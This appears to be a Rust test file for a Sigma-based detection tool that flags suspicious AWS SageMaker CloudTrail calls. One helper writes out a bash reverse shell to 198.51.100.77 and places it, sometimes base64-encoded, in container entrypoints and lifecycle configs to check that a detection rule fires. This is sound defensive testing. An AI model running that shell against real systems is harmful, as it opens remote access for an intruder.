//! Every rule on its own examples: `tests/rules/<id>/match-*.json` must match and `miss-*.json` must not, though each
//! differs by the one thing that matters. `placeholders.json` holds the values that a site would configure.

use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use sagetrail::config::{RulesConfig, Scope};
use sagetrail::enrich::rules::RuleSet;
use sagetrail::enrich::{Enriched, Enricher, Origin, Severity, enrich_knowing};
use serde_json::{Value, json};
use time::macros::datetime;

use crate::support::examples::{self, Example, Values};

const NEAR_MISSES: usize = 2;

/// The rules as a site would load them that has configured these values.
fn load(placeholders: Values) -> Enricher {
    load_in(Scope::All, placeholders)
}

fn load_in(scope: Scope, placeholders: Values) -> Enricher {
    let config = RulesConfig { placeholders, ..RulesConfig::default() };
    Enricher { rules: RuleSet::load(&config).unwrap().into(), ..Enricher::built_in(scope) }
}

/// The document of a record without a history.
fn document(record: &Value, enricher: &Enricher) -> Value {
    document_of(&Example { path: PathBuf::new(), record: record.clone(), history: Vec::new() }, enricher)
}

fn document_of(example: &Example, enricher: &Enricher) -> Value {
    match example.enrich(enricher) {
        Enriched::Selected { document, .. } => serde_json::from_slice(&document.source).unwrap(),
        other => panic!("{other:?}"),
    }
}

/// Whether a list of texts, or of objects with an id, has this one.
fn has(list: &Value, id: &str) -> bool {
    list.as_array().into_iter().flatten().any(|entry| entry == id || entry["id"] == id)
}

#[test]
fn every_rule_matches_its_examples_and_none_of_its_near_misses() {
    let plain = load(Values::new());
    let mut rules: BTreeMap<String, String> =
        plain.rules.rules().iter().map(|rule| (rule.id.clone(), rule.title.clone())).collect();
    rules.extend(
        plain.rules.inactive().iter().map(|inactive| (inactive.rule.id.clone(), inactive.rule.title.clone())),
    );
    assert!(rules.len() > 100);

    // Loading takes longer than all else here, and many rules are tried with the same values.
    let mut loaded = BTreeMap::from([(Values::new(), plain)]);
    let mut problems = Vec::new();
    for (id, title) in &rules {
        let folder = folder(id);
        let matches: Vec<Example> = examples::records(&folder, "match-").collect();
        let misses: Vec<Example> = examples::records(&folder, "miss-").collect();
        if matches.is_empty() || misses.len() < NEAR_MISSES {
            problems.push(format!("\"{title}\" ({id}) lacks examples"));
        }
        let values = examples::values(&folder);
        let enricher = &*loaded.entry(values).or_insert_with_key(|values| load(values.clone()));
        let matches = matches.iter().map(|example| (example, true));
        for (example, expected) in matches.chain(misses.iter().map(|example| (example, false))) {
            if has(&document_of(example, enricher)["rule"]["id"], id) != expected {
                let what = if expected { "does not match" } else { "matches" };
                problems.push(format!("\"{title}\" {what} {}", example.path.display()));
            }
        }
    }
    assert!(problems.is_empty(), "{}", problems.join("\n"));
}

/// What is not shipped nobody sees, and the bytes of a record decide on it before any rule does.
#[test]
fn a_record_of_another_service_that_a_rule_matches_is_shipped_however_it_is_written() {
    let (all, related) = (load(examples::all_values()), load_in(Scope::Related, examples::all_values()));
    let mut records = 0;
    for rule in all.rules.rules() {
        for example in examples::records(&folder(&rule.id), "match-") {
            let Example { path, record, .. } = &example;
            let is_sagemaker =
                record["eventSource"].as_str().is_some_and(|source| source.contains("sagemaker"));
            if is_sagemaker || !has(&document_of(&example, &all)["rule"]["id"], &rule.id) {
                continue;
            }
            records += 1;
            let origin = Origin { path: "example", written_at: None, now: datetime!(2026-11-23 12:00 UTC) };
            let plain = record.to_string();
            let known = example.known(&related);
            for raw in [plain.replace('/', "\\/"), with_escapes(record), plain] {
                let enriched = enrich_knowing(raw.as_bytes(), origin, &related, &known);
                assert!(matches!(enriched, Enriched::Selected { .. }), "{}: {raw}", path.display());
            }
        }
    }
    assert!(records > 150, "{records}");
}

/// The record with a letter of each value written by its number. Names of members are never written so.
fn with_escapes(record: &Value) -> String {
    const MARK: char = '\u{1}';
    fn marked(value: &Value) -> Value {
        match value {
            Value::String(text) => text.replace('a', &MARK.to_string()).into(),
            Value::Array(elements) => elements.iter().map(marked).collect(),
            Value::Object(members) => {
                members.iter().map(|(name, value)| (name.clone(), marked(value))).collect()
            }
            other => other.clone(),
        }
    }
    marked(record).to_string().replace("\\u0001", "\\u0061")
}

/// Who was denied has read nothing, and a flood of denials would be shipped whole.
const ARTEFACT_READ: &str = "8e0b7c52-3d94-4f1a-b6a7-2f9d5c81e3b0";

#[test]
fn a_match_on_a_call_that_failed_is_an_attempt_unless_the_rule_is_about_the_failure() {
    let enricher = load(examples::all_values());
    for rule in enricher.rules.rules().iter().filter(|rule| rule.level > Severity::Informational) {
        for mut example in examples::records(&folder(&rule.id), "match-") {
            let verdict = |example: &Example| document_of(example, &enricher)["sagemaker"].clone();
            let path = example.path.display().to_string();
            if example.record["errorCode"].is_null() || rule.judges_failure {
                assert!(has(&verdict(&example)["findings"], &rule.id), "{path}");
            }
            if !rule.judges_failure && rule.id != ARTEFACT_READ {
                example.record["errorCode"] = "AccessDenied".into();
                assert!(has(&verdict(&example)["attempts"], &rule.id), "{path}");
            }
        }
    }
}

#[test]
fn every_folder_of_examples_belongs_to_a_rule() {
    let plain = load(Values::new());
    for folder in examples::folders() {
        let id = folder.file_name().unwrap().to_string_lossy().into_owned();
        let known = plain.rules.rules().iter().any(|rule| rule.id == id)
            || plain.rules.inactive().iter().any(|inactive| inactive.rule.id == id);
        assert!(known, "{id} is no rule's id");
    }
}

/// Members of the API that hold a script or a command line, and a shell for another host as it stands there.
fn scripts() -> [(&'static str, Value); 5] {
    let script = "bash -i >& /dev/tcp/198.51.100.77/443 0>&1";
    let packed = Value::from(BASE64_STANDARD.encode(script));
    [
        ("containerEntrypoint", json!(["bash", "-c", script])),
        ("containerArguments", json!(["bash", "-c", script])),
        ("studioLifecycleConfigContent", packed.clone()),
        ("onCreate.content", packed.clone()),
        ("onStart.content", packed),
    ]
}

#[test]
fn a_script_is_judged_in_every_member_of_every_call_that_carries_one() {
    let shapes: BTreeMap<String, Value> =
        serde_json::from_str(include_str!("../api/sagemaker-shapes.json")).unwrap();
    let enricher = load(Values::new());
    let mut members = 0;
    for (operation, shape) in &shapes {
        for member in shape["input"].as_array().unwrap().iter().filter_map(Value::as_str) {
            let Some((_, script)) = scripts().into_iter().find(|(script, _)| member.ends_with(script)) else {
                continue;
            };
            members += 1;
            let parameters = member.rsplit('.').fold(script, |value, name| json!({ (name): value }));
            let record = json!({
                "eventSource": "sagemaker.amazonaws.com", "eventName": operation, "requestParameters": parameters,
            });
            let id = "65b64fb0-e7eb-46d7-a180-c5e74adf744d";
            assert!(has(&document(&record, &enricher)["rule"]["id"], id), "{operation} {member}");
        }
    }
    assert!(members > 15, "{members}");
}

/// sigma-cli would fetch ATT&CK for this check.
#[test]
fn every_attack_and_atlas_tag_is_one_that_documents_have_a_name_for() {
    let known: BTreeMap<String, BTreeMap<String, Value>> =
        serde_json::from_str(include_str!("../../config/attack.json")).unwrap();
    let techniques: BTreeSet<String> = known["techniques"].keys().map(|id| id.to_ascii_lowercase()).collect();
    let mut tags = 0;
    for path in rule_files() {
        let text = std::fs::read_to_string(&path).unwrap();
        for tag in rsigma_parser::parse_sigma_yaml(&text).unwrap().rules.iter().flat_map(|rule| &rule.tags) {
            let (namespace, name) = tag.split_once('.').unwrap();
            if matches!(namespace, "attack" | "atlas") {
                tags += 1;
                let is_tactic = namespace == "attack" && known["tactics"].contains_key(name);
                assert!(is_tactic || techniques.contains(name), "{}: {tag}", path.display());
            }
        }
    }
    assert!(tags > 300, "{tags}");
}

/// The folder of the rule with this id.
fn folder(id: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/rules").join(id)
}

/// The files of the built-in rules.
fn rule_files() -> Vec<PathBuf> {
    let entries = |folder: &Path| {
        let mut paths: Vec<PathBuf> =
            std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
        paths.sort();
        paths
    };
    let rules = Path::new(env!("CARGO_MANIFEST_DIR")).join("config/rules");
    let folders = entries(&rules).into_iter().filter(|path| path.is_dir());
    folders.flat_map(|folder| entries(&folder)).collect()
}
